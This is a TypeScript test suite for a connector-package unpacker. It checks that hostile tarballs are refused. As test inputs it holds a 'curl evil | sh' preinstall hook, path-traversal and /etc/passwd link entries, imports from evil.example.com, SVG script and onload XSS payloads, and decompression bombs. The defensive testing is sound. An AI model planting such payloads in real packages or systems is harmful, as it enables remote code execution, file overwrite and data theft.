import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { DEFAULT_PACKAGE_LIMITS } from './limits.ts';
import { aManifest, ICON, packageEntries, SOURCE } from './testing/package-entries.ts';
import { extension, rawArchive, type RawEntry } from './testing/raw-archive.ts';
import { unpackConnector } from './unpack-connector.ts';

const refusalOf = async (tarball: Uint8Array): Promise<string> => {
  try {
    await unpackConnector(tarball);
    return 'accepted';
  } catch (cause) {
    return (cause as { readonly code?: string }).code ?? String(cause);
  }
};
/** A sound package with something more in it. */
const withEntries = (...more: readonly RawEntry[]): Buffer => rawArchive([...packageEntries(), ...more]);
const withFiles = (changes: Readonly<Record<string, string | undefined>>): Buffer =>
  rawArchive(packageEntries(changes));

describe('a sound package', () => {
  test('gives its manifest, its texts and all its files', async () => {
    const { manifest, icon, readme, changelog, files, source } = await unpackConnector(
      withEntries({ name: 'package/docs/', type: '5' }, { name: 'package/docs/more.md', content: 'More' }),
    );
    expect(manifest).toEqual(aManifest());
    expect({ icon, readme, changelog, source }).toEqual({ icon: ICON, readme: '# Desk\n', changelog: '# Changes\n' });
    expect(Buffer.from(files.get('docs/more.md') ?? []).toString()).toBe('More');
    expect(files.size).toBe(7);
  });

  test('may hold code that computes', async () => {
    const source = `import { createHmac } from 'node:crypto';\nexport default { hmac: createHmac };\n`;
    expect((await unpackConnector(withFiles({ 'index.js': source }))).source).toBe(source);
  });

  test('may do without code for a webhook whose address people enter by hand', async () => {
    const schema = { input: { type: 'object' }, output: {}, sample: null };
    const told = { kind: 'webhook', title: 'Told', ...schema, delivery: 'manual', verify: { none: 'x' } };
    const manifestOf = (delivery: string) => JSON.stringify(aManifest({ triggers: { told: { ...told, delivery } } }));
    const { source } = await unpackConnector(withFiles({ 'manifest.json': manifestOf('manual') }));
    expect(source).toBeUndefined();
    expect(await refusalOf(withFiles({ 'manifest.json': manifestOf('subscription') }))).toBe(
      'package.manifest_invalid',
    );
  });

  test('may have long names in an extension', async () => {
    const name = `package/docs/${'a'.repeat(120)}.md`;
    const { files } = await unpackConnector(
      withEntries(extension(`path=${name}`), { name: 'package/x', content: 'y' }),
    );
    expect(files.has(name.slice('package/'.length))).toBe(true);
  });
});

describe('names that lead elsewhere refuse the whole package', () => {
  test.each([
    ['climbing', '../../../../tmp/evil.js'],
    ['climbing from inside', 'package/../../evil.js'],
    ['absolute', '/etc/cron.d/x'],
    ['a drive', 'C:\\x'],
    ['a drive with slashes', 'C:/x'],
    ['backslashes', 'package\\..\\x'],
    ['an empty step', 'package//x'],
    ['a step that is none', 'package/./x'],
  ])('%s', async (_, name) => {
    expect(await refusalOf(withEntries({ name, content: 'x' }))).toBe('package.path_escape');
    expect(await refusalOf(withEntries(extension(`path=${name}`), { name: 'package/x', content: 'x' }))).toBe(
      'package.path_escape',
    );
  });

  test('a line break', async () => {
    expect(await refusalOf(withEntries({ name: 'package/a\nb', content: 'x' }))).toBe('package.path_escape');
  });

  test.each([
    ['twice the same', 'package/README.md'],
    ['another case', 'package/Readme.MD'],
    ['a file that is a folder', 'package/LICENSE/x'],
  ])('%s', async (_, name) => {
    expect(await refusalOf(withEntries({ name, content: 'x' }))).toBe('package.path_escape');
  });

  test('a folder that is a file', async () => {
    const entries = [
      { name: 'package/a/b', content: 'x' },
      { name: 'package/A', content: 'x' },
    ];
    expect(await refusalOf(withEntries(...entries))).toBe('package.path_escape');
  });

  test('composed and decomposed letters', async () => {
    const names = ['package/\u00e9', 'package/e\u0301'].map((path) => extension(`path=${path}`));
    const entries = names.flatMap((name) => [name, { name: 'package/x', content: 'x' }]);
    expect(await refusalOf(withEntries(...entries))).toBe('package.path_escape');
  });

  test('a NUL in an extension', async () => {
    const entries = [extension('path=package/visible.txt\0hidden.txt'), { name: 'package/x', content: 'x' }];
    expect(await refusalOf(withEntries(...entries))).toBe('package.path_escape');
  });

  test('a name that is a number', async () => {
    expect(await refusalOf(withEntries(extension('path=12345'), { name: 'package/x', content: 'x' }))).toBe(
      'package.invalid',
    );
  });
});

describe('what is no plain file refuses the whole package', () => {
  test.each([
    ['a symbolic link', { type: '2', linkTo: '/etc/passwd' }],
    ['a hard link', { type: '1', linkTo: 'package/README.md' }],
    ['a character device', { type: '3' }],
    ['a block device', { type: '4' }],
    ['a pipe', { type: '6' }],
    ['a type that nobody knows', { type: 'Z' }],
  ])('%s', async (_, entry) => {
    expect(await refusalOf(withEntries({ name: 'package/icon.png', ...entry }))).toBe('package.link');
  });
});

describe('size', () => {
  const zeros = (bytes: number): RawEntry => ({ name: 'package/zeros', content: Buffer.alloc(bytes) });

  test('a megabyte that becomes gigabytes', async () => {
    const member = withEntries(zeros(64 * 1024 * 1024));
    const tarball = Buffer.concat(Array.from({ length: 16 }, () => member));
    expect(tarball.length).toBeLessThan(2 * 1024 * 1024);
    expect(await refusalOf(tarball)).toBe('package.too_large');
  });

  test('a hundred times its size, though small', async () => {
    expect(await refusalOf(withEntries(zeros(2 * 1024 * 1024)))).toBe('package.too_large');
  });

  test('more files than are allowed', async () => {
    const many = Array.from({ length: 200 }, (_, index) => ({ name: `package/f${index}`, content: randomBytes(8) }));
    expect(await refusalOf(withEntries(...many))).toBe('package.too_large');
  });

  test('as many empty files as fit', async () => {
    const many = Array.from({ length: 30_000 }, (_, index) => ({ name: `package/f${index}` }));
    expect(await refusalOf(withEntries(...many))).toBe('package.too_large');
  });

  test('more than 20 MiB unpacked', async () => {
    const half = { content: Buffer.concat([randomBytes(2 * 1024 * 1024), Buffer.alloc(9 * 1024 * 1024)]) };
    const entries = [
      { name: 'package/a', ...half },
      { name: 'package/b', ...half },
    ];
    expect(await refusalOf(withEntries(...entries))).toBe('package.too_large');
  });

  test('more than 5 MiB packed', async () => {
    expect(await refusalOf(randomBytes(DEFAULT_PACKAGE_LIMITS.packedBytes + 1))).toBe('package.too_large');
  });

  test('more than 2 MiB of code', async () => {
    const padding = randomBytes(1024 * 1024).toString('hex');
    const source = `${SOURCE}// ${padding}${padding}`;
    expect(await refusalOf(withFiles({ 'index.js': source }))).toBe('package.too_large');
  });

  test('a size that a header only claims', async () => {
    const entries = [extension('size=99999999999'), { name: 'package/x', content: 'x' }];
    expect(await refusalOf(withEntries(...entries))).toMatch(/^package\.(too_large|invalid)$/);
  });

  test('time', async () => {
    await expect(unpackConnector(withEntries(), { timeoutMs: 1 })).rejects.toMatchObject({
      code: 'package.invalid',
      message: expect.stringContaining('took longer than 0.001 s') as string,
    });
  });
});

describe('bytes that are no package', () => {
  const zip = Buffer.from('504b0304140000000000', 'hex');
  test.each([
    ['nothing', Buffer.alloc(0)],
    ['a zip file', zip],
    ['a zip file in gzip', gzipSync(Buffer.concat([zip, Buffer.alloc(2000)]))],
    ['noise in gzip', gzipSync(randomBytes(4096))],
    ['gzip in gzip', gzipSync(rawArchive(packageEntries()))],
    ['half of one', rawArchive(packageEntries()).subarray(0, 400)],
    ['one without an end', gzipSync(Buffer.alloc(512, 1))],
    ['one beside npm’s folder', rawArchive([{ name: 'other/package.json', content: '{}' }])],
    ['a single file', rawArchive([{ name: 'package', content: 'x' }])],
    ['an empty archive', rawArchive([])],
    ['one without a licence', withFiles({ LICENSE: undefined })],
    ['one whose readme is no text', withEntriesOfBytes()],
  ])('%s', async (_, bytes) => {
    expect(await refusalOf(bytes)).toBe('package.invalid');
  });

  function withEntriesOfBytes(): Buffer {
    const rest = packageEntries({ 'README.md': undefined });
    return rawArchive([...rest, { name: 'package/README.md', content: Buffer.from([0xff, 0xfe, 0xfd]) }]);
  }
});

describe('what a package says of itself', () => {
  const described = (changes: object): string =>
    JSON.stringify({ name: 'desk', version: '1.0.0', type: 'module', ...changes });
  const manifest = (changes: object): string => JSON.stringify(aManifest(changes));
  /** What is repeated a million times would otherwise be refused for how well it is packed. */
  const ballast = randomBytes(32 * 1024).toString('hex');
  const nest = (levels: number): object => (levels === 0 ? {} : { a: nest(levels - 1) });
  const icon = (inside: string): string => ICON.replace('<path', `${inside}<path`);

  test.each([
    ['a manifest that is no JSON', { 'manifest.json': '{' }],
    ['a manifest that is a list', { 'manifest.json': '[]' }],
    ['a manifest with a member too many', { 'manifest.json': manifest({ onInstall: 'rm' }) }],
    ['a name with a capital', { 'manifest.json': manifest({ name: 'Desk' }) }],
    ['another name than package.json', { 'package.json': described({ name: 'disk' }) }],
    ['another version than package.json', { 'package.json': described({ version: '1.0.1' }) }],
    ['a script', { 'package.json': described({ scripts: { preinstall: 'curl evil | sh' } }) }],
    ['a dependency', { 'package.json': described({ dependencies: { evil: '1.0.0' } }) }],
    ['functions without code', { 'manifest.json': manifest({ options: ['agents'] }) }],
    ['code that opens connections', { 'index.js': `import net from 'node:net';\n${SOURCE}` }],
    ['code that reads files later', { 'index.js': `${SOURCE}export const read = () => import('node:fs');` }],
    [
      'code that reads a file as text',
      { 'index.js': `import a from 'file:///etc/passwd' with { type: 'text' };\n${SOURCE}` },
    ],
    ['code from elsewhere', { 'index.js': `import a from 'https://evil.example.com/a.js';\n${SOURCE}` }],
    ['code of a package', { 'index.js': `export * from 'lodash';\n${SOURCE}` }],
    ['code of a module without its prefix', { 'index.js': `import 'crypto';\n${SOURCE}` }],
    ['code that is none', { 'index.js': 'export default {' }],
    [
      'code that imports from elsewhere later',
      { 'index.js': `${SOURCE}export const read = () => import(\`https://a\`);` },
    ],
    ['code that no parser survives', { 'index.js': `export default ${'['.repeat(500_000)}${']'.repeat(500_000)}` }],
    ['functions in functions', { 'index.js': `export default ${'()=>'.repeat(300_000)}1` }],
    ['a manifest in which everything is in something', { 'manifest.json': manifest({ tables: { a: nest(2000) } }) }],
    ['a manifest that is brackets', { 'manifest.json': `${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}` }],
    ['an icon with a script', { 'icon.svg': icon('<script>alert(1)</script>') }],
    ['an icon with an event', { 'icon.svg': ICON.replace('<path', '<path onload="alert(1)"') }],
    ['an icon with a style', { 'icon.svg': icon('<style>*{background:red}</style>') }],
    ['an icon with HTML in it', { 'icon.svg': icon('<foreignObject><b/></foreignObject>') }],
    ['an icon that loads', { 'icon.svg': icon('<image href="https://evil.example.com/a.png"/>') }],
    [
      'an icon painted with what is elsewhere',
      { 'icon.svg': ICON.replace('currentColor', 'url(https://evil.example.com)') },
    ],
    ['an icon with an entity', { 'icon.svg': `<!DOCTYPE svg [<!ENTITY a "b">]>${ICON}` }],
    ['an icon with a comment', { 'icon.svg': `<!-- a -->${ICON}` }],
    ['an icon with an open quote', { 'icon.svg': ICON.replace('<path', '<path d="a onload="alert(1)"') }],
    ['an icon that is no square', { 'icon.svg': ICON.replace('0 0 24 24', '0 0 24 12') }],
    ['an icon that is large', { 'icon.svg': ICON.replace('M4', `M4${' '.repeat(9000)}`) }],
    ['an icon that is none', { 'icon.svg': 'x' }],
  ])('%s', async (_, changes) => {
    expect(await refusalOf(withFiles({ ...changes, ballast }))).toBe('package.manifest_invalid');
  });

  test('may paint its icon with its own gradient', async () => {
    const gradient = '<defs><linearGradient id="a"><stop offset="0"/></linearGradient></defs>';
    const changed = icon(gradient).replace('currentColor', 'url(#a)');
    expect((await unpackConnector(withFiles({ 'icon.svg': changed }))).icon).toBe(changed);
  });
});

describe('the shared table of attacks', () => {
  const attacks: Readonly<Record<string, { readonly tarballs: readonly Buffer[]; readonly codes: readonly string[] }>> =
    {
      'tar-path-traversal': {
        tarballs: ['../../../../tmp/evil.js', '/etc/cron.d/x', 'C:\\x'].map((name) =>
          withEntries({ name, content: 'x' }),
        ),
        codes: ['package.path_escape'],
      },
      'tar-numeric-pax': {
        tarballs: [withEntries(extension('path=12345'), { name: 'package/x', content: 'x' })],
        codes: ['package.invalid'],
      },
      'tar-nul-pax': {
        tarballs: [withEntries(extension('path=visible.txt\0hidden.txt'), { name: 'package/x', content: 'x' })],
        codes: ['package.path_escape'],
      },
      'tar-bomb': {
        tarballs: [withEntries({ name: 'package/zeros', content: Buffer.alloc(64 * 1024 * 1024) })],
        codes: ['package.too_large'],
      },
      'install-script': {
        tarballs: [
          withFiles({ 'package.json': '{"name":"desk","version":"1.0.0","scripts":{"preinstall":"curl evil | sh"}}' }),
        ],
        codes: ['package.manifest_invalid'],
      },
      'zip-symlink': { tarballs: [Buffer.from('504b0304140000000000', 'hex')], codes: ['package.invalid'] },
    };
  /** Of what happens after a package is in: the sandbox, the registry, and what a connector throws. */
  const others = /^(?:integrity-mismatch|internal-socket-module|connector-leaks-in-error)/;
  const file = new URL('../../../../shared/data/payloads.json', import.meta.url);
  const rows = existsSync(file)
    ? (JSON.parse(readFileSync(file, 'utf8')) as readonly { readonly area: string; readonly name: string }[])
    : [];
  const names = rows.flatMap(({ area, name }) =>
    area === 'connector-package' && !others.test(name) ? [name.replace(/ \(.*/, '')] : [],
  );
  if (names.length === 0) process.stdout.write('package payloads: skipped, shared/data/payloads.json is not here\n');

  test('has no row that is not tried here', () => {
    expect(names.filter((name) => !(name in attacks))).toEqual([]);
  });

  test.each(Object.entries(attacks))('%s', async (_, { tarballs, codes }) => {
    for (const tarball of tarballs) expect(codes).toContain(await refusalOf(tarball));
  });
});
